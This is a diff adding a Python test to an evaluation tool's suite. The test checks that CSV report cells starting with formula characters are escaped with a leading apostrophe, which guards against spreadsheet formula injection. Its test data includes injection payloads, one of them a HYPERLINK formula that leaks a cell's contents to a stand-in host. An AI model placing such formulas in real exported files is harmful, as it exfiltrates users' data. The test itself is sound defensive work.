@@ -285,3 +285,39 @@ def test_a_metric_without_a_margin_draws_no_margin_line_and_never_crashes():
                                   verdict="pass")}}
     rows = {r["label"]: r for r in delta_chart(metrics)["rows"]}
     assert rows["s/accuracy"]["x_m"] is None and rows["s/pass_rate"]["x_m"] is not None
+
+
+FORMULAS = ['=HYPERLINK("http://x.test/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
+
+
+def formula_answers(req):
+    a = answer(req)
+    return Reply(content=FORMULAS[a % len(FORMULAS)])
+
+
+def test_samples_csv_cells_never_start_a_formula(calibrated_golden, tmp_path, cli):
+    """Issue 49 item 12: an answer (or any text cell) starting with =, +, -, @, tab or CR is written with a leading
+    `'` (OWASP), so a spreadsheet shows it as text; numbers stay numbers."""
+    import csv
+
+    run = tmp_path / "cand"
+    with TestServer(Script(formula_answers)) as srv:
+        assert cli("run", *RUN, "--base-url", srv.url, "--out", run)[0] == 0
+    from verifier.app.gate import compare_run
+
+    report_files.write_all(run, compare_run(run, str(calibrated_golden["golden"]), None, 0.02).to_dict())
+    with (run / "samples.csv").open(newline="", encoding="utf-8") as f:
+        rows = list(csv.reader(f))
+    cells = [c for r in rows for c in r]
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not _number(c))]
+    assert len({len(r) for r in rows}) == 1  # a CR inside a cell is quoted: no row is cut in two
+    answers = {c for c in cells if c.startswith("'")}
+    assert {"'" + f for f in FORMULAS} <= answers, sorted(answers)[:10]
+
+
+def _number(c: str) -> bool:
+    try:
+        float(c)
+    except ValueError:
+        return False
+    return True
